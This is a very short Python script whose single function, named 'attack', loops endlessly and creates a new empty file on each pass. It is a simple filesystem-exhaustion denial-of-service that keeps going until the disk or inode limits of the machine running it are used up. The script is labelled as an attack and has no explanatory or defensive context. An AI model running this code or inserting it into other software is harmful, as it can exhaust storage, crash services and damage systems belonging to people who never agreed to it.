import itertools


def attack():
    for i in itertools.count():
        open(str(i), 'w').close()
